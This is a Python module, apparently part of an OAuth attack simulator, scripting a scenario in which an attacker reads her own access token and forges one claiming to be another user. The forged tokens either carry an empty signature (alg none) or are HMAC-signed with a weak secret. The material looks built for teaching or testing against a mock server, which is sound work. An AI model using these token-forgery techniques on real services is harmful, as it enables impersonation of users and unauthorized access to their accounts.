"""What all forgers do first: get a token of one's own, see what a token looks like, write another."""

from __future__ import annotations

import hashlib
import hmac
from collections.abc import Mapping
from typing import Any

from mockserver.protocol import compact, jose
from mockserver.protocol.errors import InvalidToken
from oauthsim import attacker
from oauthsim.attacks import crafted
from oauthsim.scenarios import Step, Stopped
from oauthsim.scenarios.messages import from_to, request_to, token_request
from oauthsim.world import World

ALICE = "alice-1"
"""Alice's subject identifier. It is no secret: whoever she shares a document with can see it."""

KEY = jose.demo_key("mallory-eddsa-1")

OWN_TOKEN = Step("Mallory gets a token of her own, to see what one looks like", request_to("/authorize"))
READS_IT = Step(
    "It is for her client, and readable for whoever holds it", token_request("authorization_code")
)
PRESENTS = Step("She presents the forged token, and says that she is Alice", from_to("attacker", "calendar"))


def own_token(world: World, scope: str = "calendar.read") -> tuple[dict[str, Any], dict[str, Any]]:
    """Let Mallory log in as herself at her own client; return header and claims of her access token.

    Raises Stopped when she gets none that she can read.
    """
    mallory = world.mallory
    mallory.browser.open(crafted.request(attacker.CALLBACK, attacker.CLIENT_ID, scope=scope))
    mallory.person.answer_pages()
    answer = crafted.redeem(
        world, attacker.CALLBACK, attacker.CLIENT_ID, client_secret=attacker.CLIENT_SECRET
    )
    try:
        return jose.decode_unverified(crafted.member(answer, "access_token"))
    except InvalidToken as unreadable:
        raise Stopped(unreadable.description) from unreadable


def as_alice(claims: Mapping[str, Any]) -> dict[str, Any]:
    """Return the claims of a token as if it had been issued to Alice."""
    return {**claims, "sub": ALICE}


def unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    """Return a token whose signature is empty (RFC 7515 Appendix A.5)."""
    return compact.write(compact.signing_input(header, compact.json_text(claims).encode()), b"")


def signed_with_hmac(header: Mapping[str, Any], claims: Mapping[str, Any], secret: bytes) -> str:
    """Return a token signed by HS256 with `secret`, however short that is."""
    signed = compact.signing_input(header, compact.json_text(claims).encode())
    return compact.write(signed, hmac.new(secret, signed.encode(), hashlib.sha256).digest())
